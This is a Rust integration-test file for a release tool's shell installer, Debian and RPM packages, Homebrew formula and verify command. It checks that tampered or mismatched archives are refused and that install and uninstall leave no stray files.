    let mut bytes = fs::read(&archive).unwrap();
    let middle = bytes.len() / 2;
    bytes[middle] ^= 0x01;
    fs::write(&archive, bytes).unwrap();
    let url = serve(&dist);
    let path = tools_path("install-tampered", &["curl", "sha256sum"], &[]);
    let run = install("install-tampered", &dist, &url, &path, &[]);
    assert_eq!(run.out.status.code(), Some(1), "{}", run.stderr());
    assert!(
        run.stderr()
            .contains("does not match the SHA-256 this installer carries"),
        "{}",
        run.stderr()
    );
    assert!(
        run.stderr().contains("nothing was installed"),
        "{}",
        run.stderr()
    );
    run.assert_nothing_installed();
}

/// Another version than the installer's own: checked against its sidecar,
/// which must be exactly one line.
#[test]
fn the_installer_refuses_a_sidecar_of_more_than_one_line() {
    if !installer_tools(&["curl", "sha256sum"]) {
        return;
    }
    let copy = dist_copy("install-two-lines");
    let dist = copy.join(DIST);
    let older = format!("{PACKAGE}-0.2.9-{TRIPLE}.tar.xz");
    fs::copy(dist.join(archive_name()), dist.join(&older)).unwrap();
    // The first line is right; a second names the same archive with other bytes.
    let sha = sha256_hex(&fs::read(dist.join(&older)).unwrap());
    fs::write(
        dist.join(format!("{older}.sha256")),
        format!("{sha}  {older}\n{}  {older}\n", "1".repeat(64)),
    )
    .unwrap();
    let url = serve(&dist);
    let path = tools_path("install-two-lines", &["curl", "sha256sum"], &[]);
    let run = install(
        "install-two-lines",
        &dist,
        &url,
        &path,
        &["--version", "0.2.9"],
    );
    assert_eq!(run.out.status.code(), Some(1), "{}", run.stderr());
    assert!(
        run.stderr().contains(&format!(
            "checking {older} against its published .sha256: this installer carries the hashes of {PACKAGE} {VERSION} only"
        )),
        "{}",
        run.stderr()
    );
    assert!(
        run.stderr().contains("does not hold one line"),
        "{}",
        run.stderr()
    );
    run.assert_nothing_installed();
}

/// A mirror (or anyone who can change the release's files) serving another
/// archive with a `.sha256` to match cannot pass the hashes the installer
/// carries.
#[test]
fn the_installer_refuses_another_archive_even_with_a_matching_sidecar() {
    if !installer_tools(&["curl", "sha256sum"]) {
        return;
    }
    let copy = dist_copy("install-mirror");
    let dist = copy.join(DIST);
    let other = fs::read(dist.join(format!("{}.tar.xz", stem(ARM)))).unwrap();
    fs::write(dist.join(archive_name()), &other).unwrap();
    fs::write(
        dist.join(format!("{}.sha256", archive_name())),
        format!("{}  {}\n", sha256_hex(&other), archive_name()),
    )
    .unwrap();
    let url = serve(&dist);
    let path = tools_path("install-mirror", &["curl", "sha256sum"], &[]);
    let run = install("install-mirror", &dist, &url, &path, &[]);
    assert_eq!(run.out.status.code(), Some(1), "{}", run.stderr());
    assert!(
        run.stderr()
            .contains("does not match the SHA-256 this installer carries"),
        "{}",
        run.stderr()
    );
    run.assert_nothing_installed();
}

#[test]
fn the_installer_works_when_tmpdir_is_not_writable() {
    if !installer_tools(&["curl", "sha256sum"]) {
        return;
    }
    let dist = dist_run().target_dir.join(DIST);
    let url = serve(&dist);
    let path = tools_path("install-tmpdir", &["curl", "sha256sum"], &[]);
    let run = install_with_env(
        "install-tmpdir",
        &dist,
        &url,
        &path,
        &[],
        &[("TMPDIR", "/nonexistent/tmp")],
    );
    assert_ok("installer with TMPDIR=/nonexistent/tmp", &run.out);
    assert!(run.bin_dir().join(BIN).is_file(), "{}", run.stderr());
}

#[test]
fn the_installer_explains_what_it_cannot_do() {
    if !installer_tools(&["curl", "sha256sum"]) {
        return;
    }
    let dist = dist_run().target_dir.join(DIST);
    let url = serve(&dist);
    /// (scratch name, programs besides the basic tools, fake programs, expected message)
    type Case<'a> = (&'a str, &'a [&'a str], &'a [(&'a str, &'a str)], &'a str);
    let cases: [Case; 4] = [
        (
            "install-freebsd",
            &["curl", "sha256sum"],
            &[(
                "uname",
                "case \"$1\" in -s) echo FreeBSD ;; -m) echo amd64 ;; esac",
            )],
            "there is no fixture-greeter build for FreeBSD amd64; there are builds for Linux x86_64, Linux aarch64, macOS x86_64, macOS aarch64; on Windows, use fixture-greeter-installer.ps1",
        ),
        (
            "install-riscv",
            &["curl", "sha256sum"],
            &[(
                "uname",
                "case \"$1\" in -s) echo Linux ;; -m) echo riscv64 ;; esac",
            )],
            "there is no fixture-greeter build for Linux riscv64",
        ),
        (
            "install-no-downloader",
            &["sha256sum"],
            &[],
            "neither curl nor wget is installed",
        ),
        (
            "install-no-hasher",
            &["curl"],
            &[],
            "neither sha256sum nor shasum is installed",
        ),
    ];
    for (name, extra, fakes, message) in cases {
        let uname_is_fake = fakes.iter().any(|(n, _)| *n == "uname");
        let tools: Vec<&str> = INSTALLER_TOOLS
            .iter()
            .filter(|t| !uname_is_fake || **t != "uname")
            .copied()
            .collect();
        let programs: Vec<&str> = tools.into_iter().chain(extra.iter().copied()).collect();
        let path = shim_path(&e2e_dir(name).join("bin"), &programs, fakes);
        let run = install(name, &dist, &url, &path, &[]);
        assert_eq!(run.out.status.code(), Some(1), "{name}: {}", run.stderr());
        let stderr = run.stderr();
        assert!(
            stderr.contains(message),
            "{name}: expected `{message}` in:\n{stderr}"
        );
        assert_eq!(
            stderr.trim().lines().count(),
            1,
            "{name}: one line:\n{stderr}"
        );
        run.assert_nothing_installed();
    }
}

/// Every file and directory below `dir`, as paths relative to it, sorted.
fn tree(dir: &Path) -> Vec<String> {
    fn walk(root: &Path, dir: &Path, found: &mut Vec<String>) {
        let Ok(entries) = fs::read_dir(dir) else {
            return;
        };
        for entry in entries.flatten() {
            let path = entry.path();
            found.push(path.strip_prefix(root).unwrap().display().to_string());
            if entry.file_type().unwrap().is_dir() {
                walk(root, &path, found);
            }
        }
    }
    let mut found = Vec::new();
    walk(dir, dir, &mut found);
    found.sort();
    found
}

/// Where the installer puts the fixture's docs for a user, below HOME.
const USER_DOCS: [&str; 4] = [
    ".local/share/bash-completion/completions/greet",
    ".local/share/zsh/site-functions/_greet",
    ".config/fish/completions/greet.fish",
    ".local/share/man/man1/greet.1",
];

/// The shells the installer is run with: dash (Debian's sh) and bash with
/// this machine's tools, and busybox sh with only busybox's, as on Alpine.
fn installer_shells(name: &str) -> Vec<(&'static str, Vec<PathBuf>, PathBuf)> {
    let host = tools_path(&format!("{name}-host"), &["curl", "sha256sum"], &[]);
    let applets = e2e_dir(&format!("{name}-busybox")).join("bin");
    let _ = fs::remove_dir_all(&applets);
    fs::create_dir_all(&applets).unwrap();
    let which = |program: &str| {
        std::env::split_paths(&std::env::var_os("PATH").unwrap())
            .map(|d| d.join(program))
            .find(|p| p.is_file())
            .unwrap()
    };
    let busybox = which("busybox");
    for applet in INSTALLER_TOOLS.iter().chain(&["wget", "sha256sum"]) {
        std::os::unix::fs::symlink(&busybox, applets.join(applet)).unwrap();
    }
    vec![
        ("dash", vec!["/bin/sh".into()], host.clone()),
        ("bash", vec![which("bash")], host),
        ("busybox", vec![busybox, "sh".into()], applets),
    ]
}

#[test]
fn the_installer_places_completions_and_man_pages_and_uninstalls_exactly_them() {
    if !installer_tools(&["curl", "sha256sum", "busybox", "bash"]) {
        return;
    }
    let dist = dist_run().target_dir.join(DIST);
    let url = serve(&dist);
    for (shell, command, path) in installer_shells("install-docs") {
        let home = e2e_dir(&format!("install-docs-{shell}")).join("home");
        let _ = fs::remove_dir_all(&home);
        fs::create_dir_all(&home).unwrap();
        fs::write(home.join(".profile"), "# the user's own\n").unwrap();
        let before = tree(&home);

        let out = run_installer(&command, &home, &url, &path, &[]);
        assert_ok(&format!("{shell}: the installer"), &out);
        let stderr = text(&out.stderr);
        for doc in USER_DOCS {
            let file = home.join(doc);
            assert!(file.is_file(), "{shell}: no {doc}:\n{stderr}");
            assert!(
                stderr.contains(&file.display().to_string()),
                "{shell}: {doc} is not named:\n{stderr}"
            );
        }
        assert!(
            fs::read_to_string(home.join(USER_DOCS[3]))
                .unwrap()
                .contains("greet \\- says hello (loud)"),
            "{shell}: the archive's man page"
        );
        let receipt =
            fs::read_to_string(home.join(format!(".local/bin/.{PACKAGE}.install-receipt")))
                .unwrap();
        assert!(
            receipt.contains(&format!("installed {PACKAGE} {VERSION} {TRIPLE}\n")),
            "{shell}: {receipt}"
        );
        assert_eq!(receipt.matches("\nfile ").count(), 5, "{shell}: {receipt}");

        // A page the user changed is theirs: uninstall keeps it and says so.
        let page = home.join(USER_DOCS[3]);
        fs::write(&page, ".TH MINE 1\n").unwrap();
        let out = run_installer(&command, &home, &url, &path, &["--uninstall"]);
        assert_ok(&format!("{shell}: --uninstall"), &out);
        let stderr = text(&out.stderr);
        assert!(
            stderr.contains(&format!(
                "kept {}: it changed since it was installed",
                page.display()
            )),
            "{shell}: {stderr}"
        );
        assert!(
            stderr.contains(&format!("uninstalled {PACKAGE} from ")),
            "{shell}: {stderr}"
        );
        fs::remove_file(&page).unwrap();
        // The page's directories stayed while it was there; nothing else did.
        for dir in ["man/man1", "man"] {
            let _ = fs::remove_dir(home.join(".local/share").join(dir));
        }
        let _ = fs::remove_dir(home.join(".local/share"));
        let _ = fs::remove_dir(home.join(".local"));
        assert_eq!(
            tree(&home),
            before,
            "{shell}: uninstall leaves HOME as it was"
        );

        // Again, then with --no-docs: the second install removes the first's
        // docs, and uninstall still removes every directory either made.
        let out = run_installer(&command, &home, &url, &path, &[]);
        assert_ok(&format!("{shell}: the installer again"), &out);
        let out = run_installer(&command, &home, &url, &path, &["--no-docs"]);
        assert_ok(&format!("{shell}: --no-docs"), &out);
        for doc in USER_DOCS {
            assert!(!home.join(doc).exists(), "{shell}: --no-docs left {doc}");
        }
        assert!(home.join(".local/bin").join(BIN).is_file());
        let out = run_installer(&command, &home, &url, &path, &["--uninstall"]);
        assert_ok(&format!("{shell}: --uninstall after --no-docs"), &out);
        assert_eq!(
            tree(&home),
            before,
            "{shell}: uninstall leaves HOME as it was"
        );

        // Nothing to uninstall: one line, exit 1, nothing touched.
        let out = run_installer(&command, &home, &url, &path, &["--uninstall"]);
        assert_eq!(out.status.code(), Some(1), "{shell}");
        assert!(
            text(&out.stderr).contains("there is no receipt of fixture-greeter in "),
            "{shell}: {}",
            text(&out.stderr)
        );
    }
}

#[test]
fn a_system_wide_install_puts_docs_below_its_prefix() {
    if !installer_tools(&["curl", "sha256sum"]) {
        return;
    }
    let dist = dist_run().target_dir.join(DIST);
    let url = serve(&dist);
    let scratch = e2e_dir("install-system");
    let root = scratch.join("root");
    let _ = fs::remove_dir_all(&root);
    // A zsh whose fpath does not have the user's directory: the hint.
    let path = tools_path(
        "install-system",
        &["curl", "sha256sum"],
        &[("zsh", "exit 0")],
    );
    let home = scratch.join("home");
    let _ = fs::remove_dir_all(&home);
    let out = run_installer(&["/bin/sh"], &home, &url, &path, &[]);
    assert_ok("a user install", &out);
    let hint = format!(
        "fpath=(\"{}\" $fpath)",
        home.join(".local/share/zsh/site-functions").display()
    );
    assert!(text(&out.stderr).contains(&hint), "{}", text(&out.stderr));

    let to = root.join("usr/local/bin");
    let out = run_installer(
        &["/bin/sh"],
        &home,
        &url,
        &path,
        &["--to", to.to_str().unwrap()],
    );
    assert_ok("--to <root>/usr/local/bin", &out);
    let share = root.join("usr/local/share");
    for file in [
        "bash-completion/completions/greet",
        "zsh/site-functions/_greet",
        "fish/vendor_completions.d/greet.fish",
        "man/man1/greet.1",
    ] {
        assert!(
            share.join(file).is_file(),
            "no {file}: {}",
            text(&out.stderr)
        );
    }
    assert!(
        !text(&out.stderr).contains("fpath=("),
        "zsh looks in /usr/local/share/zsh/site-functions by itself"
    );
    let out = run_installer(
        &["/bin/sh"],
        &home,
        &url,
        &path,
        &["--uninstall", "--to", to.to_str().unwrap()],
    );
    assert_ok("--uninstall --to", &out);
    assert!(
        !root.exists(),
        "every directory it made is gone: {:?}",
        tree(&root)
    );
}

/// Proven to work, not only to copy: bash-completion, man, zsh and fish each
/// find what the installer placed in a HOME of its own.
#[test]
fn shells_and_man_find_what_the_installer_placed() {
    if !installer_tools(&["curl", "sha256sum", "bash", "man", "zsh", "fish"]) {
        return;
    }
    let bash_completion = Path::new("/usr/share/bash-completion/bash_completion");
    if !bash_completion.is_file() {
        skip("needs bash-completion (apt-get install bash-completion)");
        return;
    }
    let dist = dist_run().target_dir.join(DIST);
    let url = serve(&dist);
    let path = tools_path("install-found", &["curl", "sha256sum"], &[]);
    let home = e2e_dir("install-found").join("home");
    let _ = fs::remove_dir_all(&home);
    let out = run_installer(&["/bin/sh"], &home, &url, &path, &[]);
    assert_ok("the installer", &out);
    // As a user's shell starts: ~/.local/bin on PATH, Debian's ~/.bashrc.
    fs::write(
        home.join(".bashrc"),
        format!(". {}\n", bash_completion.display()),
    )
    .unwrap();
    let user_path = format!("{}:/usr/bin:/bin", home.join(".local/bin").display());
    let shell = |program: &str, args: &[&str]| {
        let out = Command::new(program)
            .args(args)
            .env_clear()
            .env("HOME", &home)
            .env("PATH", &user_path)
            .env("HISTFILE", "/dev/null")
            .current_dir(&home)
            .output()
            .unwrap();
        (text(&out.stdout), text(&out.stderr))
    };
    // bash-completion loads a command's completion on its first TAB.
    let (stdout, stderr) = shell(
        "bash",
        &["-ic", "__load_completion greet; complete -p greet"],
    );
    assert!(
        stdout.contains("complete -W 'hello --version --generate' greet"),
        "bash: {stdout}{stderr}"
    );
    let (stdout, stderr) = shell("man", &["-w", "greet"]);
    assert_eq!(
        stdout.trim(),
        home.join(USER_DOCS[3]).display().to_string(),
        "man: {stderr}"
    );
    let fpath = home.join(".local/share/zsh/site-functions");
    let script = format!(
        "fpath=({} $fpath); autoload -Uz compinit; compinit -u -d {}; print -r -- $_comps[greet]",
        fpath.display(),
        e2e_dir("install-found").join("zcompdump").display()
    );
    let (stdout, stderr) = shell("zsh", &["-fc", &script]);
    assert_eq!(stdout.trim(), "_greet", "zsh: {stderr}");
    let (stdout, stderr) = shell("fish", &["-c", "complete -C 'greet '"]);
    assert!(stdout.contains("hello"), "fish: {stdout}{stderr}");
}

// The .deb and .rpm of each Linux archive, checked with each format's own
// tools, installed and removed as an administrator would.

const DEB: &str = "fixture-greeter_0.3.0_amd64.deb";
const RPM: &str = "fixture-greeter-0.3.0-1.x86_64.rpm";

/// What the fixture's packages install besides the package's own files.
const PACKAGED: [&str; 7] = [
    "/usr/bin/greet",
    "/usr/share/bash-completion/completions/greet",
    "/usr/share/zsh/vendor-completions/_greet",
    "/usr/share/fish/vendor_completions.d/greet.fish",
    "/usr/share/man/man1/greet.1.gz",
    "/usr/share/doc/fixture-greeter/LICENSE-MIT",
    "/usr/share/doc/fixture-greeter/README.md",
];

#[test]
fn the_deb_is_what_dpkg_deb_and_lintian_expect() {
    if !require_tools(&[
        ("dpkg-deb", "apt-get install dpkg"),
        ("lintian", "apt-get install lintian"),
    ]) {
        return;
    }
    let dist = dist_run().target_dir.join(DIST);
    let deb = dist.join(DEB);
    let info = Command::new("dpkg-deb")
        .arg("--info")
        .arg(&deb)
        .output()
        .unwrap();
    assert_ok("dpkg-deb --info", &info);
    let info = text(&info.stdout);
    for field in [
        "Package: fixture-greeter\n",
        "Version: 0.3.0\n",
        "Architecture: amd64\n",
        "Maintainer: Greeter Maintainer <greeter@example.com>\n",
        "Homepage: https://github.com/example/fixture-greeter\n",
        "Description: Says hello, loudly if asked\n",
    ] {
        assert!(info.contains(field), "no `{}` in:\n{info}", field.trim());
    }
    let contents = Command::new("dpkg-deb")
        .arg("--contents")
        .arg(&deb)
        .output()
        .unwrap();
    assert_ok("dpkg-deb --contents", &contents);
    let contents = text(&contents.stdout);
    for path in PACKAGED.iter().chain(&[
        "/usr/share/doc/fixture-greeter/copyright",
        "/usr/share/doc/fixture-greeter/changelog.gz",
    ]) {
        assert!(
            contents
                .lines()
                .any(|l| l.ends_with(&format!(" .{path}")) && l.starts_with("-r")),
            "no {path} in:\n{contents}"
        );
    }
    assert!(
        contents.contains("-rwxr-xr-x root/root") && contents.contains("./usr/bin/greet"),
        "{contents}"
    );
    // No error, for either CPU: lintian's for a static binary (which it
    // expects to be dynamic) is overridden in the package, saying why.
    for deb in [deb, dist.join("fixture-greeter_0.3.0_arm64.deb")] {
        let lintian = Command::new("lintian")
            .args(["--no-cfg", "--fail-on", "none"])
            .arg(&deb)
            .output()
            .unwrap();
        let report = text(&lintian.stdout);
        let errors: Vec<&str> = report.lines().filter(|l| l.starts_with("E: ")).collect();
        assert!(
            errors.is_empty(),
            "lintian {}:\n{report}{}",
            deb.display(),
            text(&lintian.stderr)
        );
    }
}

#[test]
fn the_rpm_is_what_rpm_reads_installs_and_erases() {
    if !require_tool("rpm", "apt-get install rpm") {
        return;
    }
    let dist = dist_run().target_dir.join(DIST);
    let rpm = dist.join(RPM);
    let rpm_cmd = |args: &[&str]| {
        let out = Command::new("rpm").args(args).arg(&rpm).output().unwrap();
        assert_ok(&format!("rpm {}", args.join(" ")), &out);
        text(&out.stdout)
    };
    let info = rpm_cmd(&["-qip"]);
    for field in [
        "fixture-greeter",
        "0.3.0",
        "x86_64",
        "Says hello, loudly if asked",
        "MIT",
    ] {
        assert!(info.contains(field), "no `{field}` in:\n{info}");
    }
    let listed = rpm_cmd(&["-qlp"]);
    for path in PACKAGED {
        assert!(listed.lines().any(|l| l == path), "no {path} in:\n{listed}");
    }
    // The digests rpm checks before it installs anything.
    let checked = rpm_cmd(&["-Kv"]);
    assert!(
        checked.contains("Header SHA256 digest: OK")
            && checked.contains("Payload SHA256 digest: OK"),
        "{checked}"
    );

    // Installed into an empty root, checked, erased: nothing of it is left.
    let root = e2e_dir("rpm-root");
    let _ = fs::remove_dir_all(&root);
    fs::create_dir_all(&root).unwrap();
    let in_root = |args: &[&str], with_package: bool| {
        let mut command = Command::new("rpm");
        command.arg("--root").arg(&root).args(args);
        if with_package {
            command.arg(&rpm);
        }
        command.output().unwrap()
    };
    assert_ok("rpm --initdb", &in_root(&["--initdb"], false));
    assert_ok("rpm -i", &in_root(&["-i", "--nodeps"], true));
    let installed = root.join("usr/bin/greet");
    let out = Command::new(&installed).arg("--version").output().unwrap();
    assert_ok("the installed greet --version", &out);
    assert_ok("rpm -V", &in_root(&["-V", "fixture-greeter"], false));
    assert_ok("rpm -e", &in_root(&["-e", "fixture-greeter"], false));
    for path in PACKAGED {
        assert!(
            !root.join(&path[1..]).exists(),
            "{path} is left after rpm -e"
        );
    }
    assert!(!root.join("usr/share/doc/fixture-greeter").exists());
}

/// As an administrator of a Debian system does it: `dpkg -i`, the binary
/// and its man page found, `dpkg -r` leaving nothing behind.
#[test]
fn the_deb_installs_runs_and_removes_cleanly_in_a_debian_root() {
    let Some(root) = debian::root("bookworm", &["man-db"]) else {
        return;
    };
    let dist = dist_run().target_dir.join(DIST);
    let setup = r#"
deb=$1
mkdir -p "$root/pkg"
cp "$deb" "$root/pkg/"
"#;
    let inside = r#"
shift 1
export PATH=/usr/sbin:/usr/bin:/sbin:/bin
dpkg -i /pkg/*.deb >/dev/null
echo "version: $(greet --version)"
echo "man: $(man -w greet)"
echo "listed: $(dpkg -L fixture-greeter | sort | tr '\n' ' ')"
dpkg -r fixture-greeter >/dev/null
for path in "$@"; do
    if [ -e "$path" ]; then echo "left: $path"; fi
done
if [ -e /usr/share/doc/fixture-greeter ]; then echo "left: /usr/share/doc/fixture-greeter"; fi
echo done
"#;
    let mut args = vec![dist.join(DEB).to_str().unwrap().to_owned()];
    args.extend(PACKAGED.iter().map(|p| (*p).to_owned()));
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let out = root.run(&e2e_dir("deb-root"), setup, inside, &args);
    assert_ok("dpkg -i, run, dpkg -r in a Debian root", &out);
    let said = text(&out.stdout);
    assert!(
        said.contains(&format!("version: greet {VERSION} (loud)")),
        "{said}"
    );
    assert!(
        said.contains("man: /usr/share/man/man1/greet.1.gz"),
        "{said}"
    );
    assert!(
        said.contains("/usr/share/bash-completion/completions/greet"),
        "{said}"
    );
    assert!(!said.contains("left: "), "dpkg -r left files:\n{said}");
    assert!(said.trim_end().ends_with("done"), "{said}");
}

/// A package whose binary is not its archive's fails verify, naming both.
#[test]
fn verify_refuses_a_package_whose_binary_is_another_archive_s() {
    let copy = dist_copy("package-swapped");
    let dist = copy.join(DIST);
    let arm = fs::read(dist.join("fixture-greeter_0.3.0_arm64.deb")).unwrap();
    let old = fs::read(dist.join(DEB)).unwrap();
    let (old_sha, new_sha) = (sha256_hex(&old), sha256_hex(&arm));
    fs::write(dist.join(DEB), &arm).unwrap();
    for file in ["SHA256SUMS", "dist-manifest.json", &format!("{DEB}.sha256")] {
        let listed = fs::read_to_string(dist.join(file)).unwrap();
        fs::write(dist.join(file), listed.replace(&old_sha, &new_sha)).unwrap();
    }
    let manifest = fs::read_to_string(dist.join("dist-manifest.json")).unwrap();
    let size = |n: usize| format!("\"size\": {n}");
    fs::write(
        dist.join("dist-manifest.json"),
        manifest.replacen(&size(old.len()), &size(arm.len()), 1),
    )
    .unwrap();
    let run = dist_run();
    let out = xtask(&run.ws, &copy, &["verify"]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    let stderr = text(&out.stderr);
    assert!(
        stderr.contains(&format!(
            "{DEB}: /usr/bin/greet is not byte for byte the one in {}",
            archive_name()
        )),
        "{stderr}"
    );
}

/// The Homebrew formula, evaluated against a stand-in for Homebrew's DSL:
/// its URLs and hashes are the release's, and it installs the binary,
/// completions and man page.
#[test]
fn the_formula_evaluates_to_the_release_s_urls_and_hashes() {
    if !require_tool("ruby", "apt-get install ruby") {
        return;
    }
    let dist = dist_run().target_dir.join(DIST);
    let formula = dist.join(format!("{PACKAGE}.rb"));
    let syntax = Command::new("ruby")
        .arg("-c")
        .arg(&formula)
        .output()
        .unwrap();
    assert_ok("ruby -c", &syntax);
    let out = Command::new("ruby")
        .arg(fixtures().join("homebrew/standin.rb"))
        .arg(&formula)
        .output()
        .unwrap();
    assert_ok("the formula under the stand-in DSL", &out);
    let said = text(&out.stdout);
    let sums = fs::read_to_string(dist.join("SHA256SUMS")).unwrap();
    let base = format!("https://github.com/example/{PACKAGE}/releases/download/v{VERSION}");
    for (cpu, triple) in [("intel", TRIPLE), ("arm", ARM)] {
        let name = format!("{}.tar.xz", stem(triple));
        let sha = sums
            .lines()
            .find_map(|l| l.strip_suffix(&format!("  {name}")))
            .unwrap();
        let line = format!("url linux {cpu} {base}/{name} {sha}");
        assert!(said.lines().any(|l| l == line), "no `{line}` in:\n{said}");
    }
    assert_eq!(said.matches("\nurl ").count(), 2, "{said}");
    for line in [
        "class FixtureGreeter",
        "version 0.3.0",
        "license MIT",
        "install bin greet greet",
        "install bash_completion complete/greet.bash greet",
        "install zsh_completion complete/_greet _greet",
        "install fish_completion complete/greet.fish greet.fish",
        "install man1 doc/greet.1 greet.1",
        "test yes",
    ] {
        assert!(said.lines().any(|l| l == line), "no `{line}` in:\n{said}");
    }
}

/// What every CI build job runs after `verify`: the release installed with
/// the installers this machine runs, started, and uninstalled.
#[test]
fn try_install_installs_runs_and_uninstalls_the_release() {
    if !installer_tools(&["curl", "sha256sum"]) {
        return;
    }
    let run = dist_run();
    let out = xtask(&run.ws, &run.target_dir, &["try-install"]);
    assert_ok("cargo xtask try-install", &out);
    let stderr = text(&out.stderr);
    assert!(
        stderr.contains(&format!(
            "installing {} from http://127.0.0.1:",
            archive_name()
        )),
        "{stderr}"
    );
    assert!(
        stderr.contains(&format!("| greet {VERSION} (loud)")),
        "{stderr}"
    );
    assert!(
        stderr.contains("installed, ran and uninstalled, leaving nothing"),
        "{stderr}"
    );
}

#[test]
fn the_installer_is_posix_sh_and_shellcheck_clean() {
    if !require_tool("shellcheck", "apt-get install shellcheck") {
        return;
    }
    let dist = dist_run().target_dir.join(DIST);
    let out = Command::new("shellcheck")
        .args(["--shell=sh", "--severity=style"])
        .arg(dist.join(format!("{PACKAGE}-installer.sh")))
        .output()
        .unwrap();
    assert_ok("shellcheck fixture-greeter-installer.sh", &out);
}

/// The benchmark is not a test of speed (these machines are noisy), but it
/// must run and print every ratio it promises.
#[test]
fn bench_runs_and_prints_every_ratio() {
    // Its baselines are the bare tools.
    if !require_tool("xz", "apt-get install xz-utils") {
        return;
    }
    let run = dist_run();
    let out = xtask(&run.ws, &run.target_dir, &["bench", "--runs", "1"]);
    assert_ok("cargo xtask bench --runs 1", &out);
    let report = text(&out.stdout);
    for line in [
        "vs tar -cJf + sha256sum",
        "vs xz -9e",
        "speed-up",
        "vs no-op cargo build --profile dist",
        "verify of all artifacts",
        "vs cargo build --release",
        "musl vs glibc: the released x86_64-unknown-linux-musl binary vs cargo build --profile dist --target x86_64-unknown-linux-gnu",
        "workload, 1 thread `churn 1`: musl ",
        "start-up `--version`: musl ",
    ] {
        assert!(report.contains(line), "no `{line}` in:\n{report}");
    }
    let cores = std::thread::available_parallelism().map_or(1, |n| n.get());
    if cores > 1 {
        let line = format!("workload, {cores} threads `churn {cores}`: musl ");
        assert!(report.contains(&line), "no `{line}` in:\n{report}");
    }
    assert!(
        !run.target_dir.join("bench").exists(),
        "bench cleans up its scratch directory"
    );
}

#[test]
fn verify_rejects_an_x86_64_binary_in_an_aarch64_archive() {
    let run = dist_run();
    let dir = untar(
        &run.target_dir.join(DIST).join(archive_name()),
        "mislabelled",
    );
    fs::rename(dir.join(stem(TRIPLE)), dir.join(stem(ARM))).unwrap();
    let archive = dir.join(format!("{}.tar.xz", stem(ARM)));
    pack_tar_xz(&dir, &stem(ARM), &archive);
    let out = xtask(
        &run.ws,
        &run.target_dir,
        &["verify", archive.to_str().unwrap()],
    );
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    let stderr = text(&out.stderr);
    let expected =
        format!("it is a ELF 64-bit, x86-64 binary, but {ARM} needs ELF 64-bit, ARM aarch64");
    assert!(stderr.contains(&expected), "{stderr}");
}
